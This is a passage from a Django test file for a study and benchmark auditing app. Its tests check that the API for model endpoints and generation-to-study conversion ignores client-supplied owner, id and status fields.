        study = Study.objects.get(name="Form study")
        assert study.status == Study.Status.DRAFT and study.created_by == world.p.lead
        assert client.post(reverse("audit:benchmark-list"), bench).status_code == 302
        made = Benchmark.objects.get(name="Form bench")
        assert not made.builtin and made.created_by == world.p.lead
        transaction.set_rollback(True)


def test_generation_writes_ignore_owner_and_status_fields(world):
    """The generation serializers drop unknown keys; they must have no effect."""
    from transcripts.models import ModelEndpoint

    p = world.p
    client = APIClient()
    client.force_login(p.lead)
    body = {
        "name": "Sneaky endpoint",
        "provider": "openai_compatible",
        "base_url": "http://127.0.0.1:9/v1",
        "model": "m",
        "created_by": p.other_lead.pk,
        "id": world.endpoint.pk,
    }
    response = client.post(reverse("api-generation-endpoints"), body, format="json")
    assert response.status_code in (201, 400)
    if response.status_code == 201:
        made = ModelEndpoint.objects.get(name="Sneaky endpoint")
        assert made.created_by == p.lead and made.pk != world.endpoint.pk
    body = {"name": "Sneaky study", "coders_per_item": 2, "study": world.done.pk, "status": "x"}
    response = client.post(reverse("api-generation-to-study", args=[world.run.pk]), body)
    assert response.status_code in (201, 400)
    world.run.refresh_from_db()
    assert world.run.study_id != world.done.pk
    if response.status_code == 201:
        assert Study.objects.get(name="Sneaky study").status == Study.Status.DRAFT
